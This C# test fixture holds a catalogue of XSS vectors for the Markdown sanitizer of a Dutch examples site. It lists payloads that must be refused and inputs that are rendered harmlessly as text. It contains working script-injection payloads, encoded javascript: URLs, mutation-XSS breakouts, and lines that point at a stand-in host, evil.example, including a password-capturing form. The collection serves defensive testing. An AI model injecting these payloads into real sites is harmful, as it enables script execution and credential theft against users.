namespace Praktijkvoorbeelden.Site.Tests.Security;

/// <summary>
/// Known ways to smuggle script, styling or another website into a page, written the way a
/// contributor would put them in the Markdown body of a voorbeeld. Collected from the usual XSS
/// cheat sheets (OWASP, PortSwigger) and from past sanitizer bypasses (mutation XSS).
/// </summary>
internal static class XssVectors
{
    /// <summary>Each must be refused with a Dutch message, and must not survive even if the message were ignored.</summary>
    public static IReadOnlyDictionary<string, string> Refused { get; } = new Dictionary<string, string>(StringComparer.Ordinal)
    {
        // Script elements
        ["script block"] = "<script>alert(1)</script>",
        ["script inline in a sentence"] = "Tekst <script>alert(1)</script> midden in een zin.",
        ["script mixed case"] = "<ScRiPt>alert(1)</sCrIpT>",
        ["script with external src"] = "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        ["script with data src"] = "<script src=\"data:text/javascript,alert(1)\"></script>",
        ["script unclosed"] = "<script>alert(1)",
        ["script split by a nested tag"] = "<scr<script>ipt>alert(1)</script>",
        ["script double angle"] = "<<script>script>alert(1)<</script>/script>",
        ["script inside template"] = "<template><script>alert(1)</script></template>",
        ["script in xmp"] = "<xmp><script>alert(1)</script></xmp>",

        // Event handlers
        ["img onerror"] = "<img src=x onerror=alert(1)>",
        ["img onload with alt"] = "<img src=\"/assets/x.png\" alt=\"x\" onload=\"alert(1)\">",
        ["p onclick"] = "<p onclick=\"alert(1)\">Klik</p>",
        ["a onmouseover"] = "<a href=\"https://example.org\" onmouseover=\"alert(1)\">link</a>",
        ["body onload"] = "<body onload=alert(1)>",
        ["div onpointerenter"] = "<div onpointerenter=alert(1)>x</div>",
        ["details ontoggle"] = "<details open ontoggle=alert(1)><summary>x</summary></details>",
        ["input autofocus onfocus"] = "<input autofocus onfocus=alert(1)>",
        ["video source onerror"] = "<video><source onerror=\"alert(1)\"></video>",
        ["unknown element with handler"] = "<xss onafterscriptexecute=alert(1)>x</xss>",
        ["marquee onstart"] = "<marquee onstart=alert(1)>x</marquee>",
        ["keygen onfocus"] = "<keygen autofocus onfocus=alert(1)>",
        ["span with mixed-case handler"] = "<span OnMouseOver=\"alert(1)\">x</span>",

        // Script URLs in raw HTML
        ["a javascript:"] = "<a href=\"javascript:alert(1)\">klik</a>",
        ["a javascript: mixed case"] = "<a href=\"JaVaScRiPt:alert(1)\">klik</a>",
        ["a javascript: leading space"] = "<a href=\" javascript:alert(1)\">klik</a>",
        ["a javascript: with tab entity"] = "<a href=\"java&#x09;script:alert(1)\">klik</a>",
        ["a javascript: decimal entities"] = "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">klik</a>",
        ["a javascript: hex entity"] = "<a href=\"&#x6A;avascript:alert(1)\">klik</a>",
        ["a javascript: padded entities"] = "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">klik</a>",
        ["a javascript: named colon entity"] = "<a href=\"javascript&colon;alert(1)\">klik</a>",
        ["a javascript: control character"] = "<a href=\"\u0001javascript:alert(1)\">klik</a>",
        ["a javascript: null byte"] = "<a href=\"java\0script:alert(1)\">klik</a>",
        ["a vbscript:"] = "<a href=\"vbscript:msgbox(1)\">klik</a>",
        ["a data: html"] = "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">klik</a>",
        ["img javascript:"] = "<img src=\"javascript:alert(1)\" alt=\"x\">",
        ["img data: svg"] = "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" alt=\"x\">",
        ["img srcset javascript:"] = "<img srcset=\"javascript:alert(1) 1x\" alt=\"x\">",
        ["area javascript:"] = "<img src=\"/assets/x.png\" alt=\"x\" usemap=\"#m\"><map name=\"m\"><area href=\"javascript:alert(1)\"></map>",

        // SVG and MathML
        ["svg onload"] = "<svg onload=alert(1)>",
        ["svg script"] = "<svg><script>alert(1)</script></svg>",
        ["svg xlink javascript:"] = "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        ["svg animate href"] = "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\"/></svg>",
        ["math link javascript:"] = "<math><mtext><a href=\"javascript:alert(1)\">x</a></mtext></math>",

        // Frames, objects, embeds
        ["iframe"] = "<iframe src=\"https://evil.example\"></iframe>",
        ["iframe srcdoc"] = "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        ["object data javascript:"] = "<object data=\"javascript:alert(1)\"></object>",
        ["object scriptlet"] = "<object type=\"text/x-scriptlet\" data=\"https://evil.example\"></object>",
        ["embed"] = "<embed src=\"https://evil.example/x.swf\">",

        // Styles
        ["style attribute url javascript:"] = "<p style=\"background:url(javascript:alert(1))\">x</p>",
        ["style attribute expression()"] = "<div style=\"width: expression(alert(1))\">x</div>",
        ["style attribute overlay"] = "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">nep</p>",
        ["style element"] = "<style>body{background:url(\"javascript:alert(1)\")}</style>",
        ["style element import"] = "<style>@import 'https://evil.example/x.css';</style>",
        ["link stylesheet"] = "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",

        // Forms, refresh, base
        ["form to another site"] = "<form action=\"https://evil.example\"><input name=\"wachtwoord\"><button>Stuur</button></form>",
        ["button formaction"] = "<button formaction=\"javascript:alert(1)\">x</button>",
        ["isindex action"] = "<isindex action=\"javascript:alert(1)\" type=image>",
        ["meta refresh"] = "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        ["meta refresh javascript:"] = "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        ["base href"] = "<base href=\"https://evil.example/\">",

        // Comment and parser tricks (mutation XSS)
        ["comment closed early"] = "<!--><script>alert(1)</script>-->",
        ["comment with bang close"] = "<!-- --!><img src=x onerror=alert(1)> -->",
        ["noscript title breakout"] = "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        ["select option style breakout"] = "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
        ["a target blank (tabnabbing)"] = "<a href=\"https://example.org\" target=\"_blank\">x</a>",
        ["a ping"] = "<a href=\"https://example.org\" ping=\"https://evil.example\">x</a>",

        // Markdown syntax
        ["markdown link javascript:"] = "[klik](javascript:alert(1))",
        ["markdown link JAVASCRIPT:"] = "[klik](JAVASCRIPT:alert(1))",
        ["markdown link entity-encoded javascript:"] = "[klik](&#106;avascript:alert(1))",
        ["markdown link percent-encoded javascript:"] = "[klik](javascript%3Aalert(1))",
        ["markdown link vbscript:"] = "[klik](vbscript:msgbox(1))",
        ["markdown link data:"] = "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        ["markdown link with title"] = "[klik](javascript:alert(1) \"titel\")",
        ["markdown link angle destination"] = "[klik](<javascript:alert(1)>)",
        ["markdown reference link"] = "[klik][ref]\n\n[ref]: javascript:alert(1)",
        ["markdown image javascript:"] = "![plaatje](javascript:alert(1))",
        ["markdown image data:"] = "![plaatje](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        ["markdown link protocol-relative"] = "[klik](//evil.example/)",
        ["autolink data:"] = "<data:text/html,<script>alert(1)</script>>",
        ["autolink javascript:"] = "<javascript:alert(1)>",
        ["autolink vbscript:"] = "<vbscript:msgbox(1)>",
        ["markdown image from another host"] = "![plaatje](https://evil.example/pixel.png)",
        ["frameset"] = "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    };

    /// <summary>Markdown shows these as text or code (broken tags are text too): allowed, and harmless in the output.</summary>
    public static IReadOnlyDictionary<string, string> ShownAsText { get; } = new Dictionary<string, string>(StringComparer.Ordinal)
    {
        ["code span"] = "Gebruik nooit `<script>alert(1)</script>` in een tekst.",
        ["fenced code block"] = "```\n<img src=x onerror=alert(1)>\n```",
        ["indented code block"] = "Voorbeeld:\n\n    <iframe src=\"https://evil.example\"></iframe>",
        ["escaped angle bracket"] = "\\<script>alert(1)\\</script>",
        ["entity-escaped markup"] = "&lt;script&gt;alert(1)&lt;/script&gt;",
        ["link title breakout"] = "[klik](https://example.org \"\\\" onmouseover=\\\"alert(1)\")",
        ["link text with markup"] = "[<b>vet</b>](https://example.org)",
        ["script with null byte"] = "<scr\0ipt>alert(1)</scr\0ipt>",
        ["img onerror unquoted, unclosed"] = "<img src=x onerror=alert(1)//",
        ["slash as separator"] = "<div/onmouseover='alert(1)'>x</div>",
        ["backtick quoted"] = "<img src=`x`onerror=alert(1)>",
        ["www autolink"] = "Zie www.example.org/javascript:alert(1) voor meer.",
    };
}
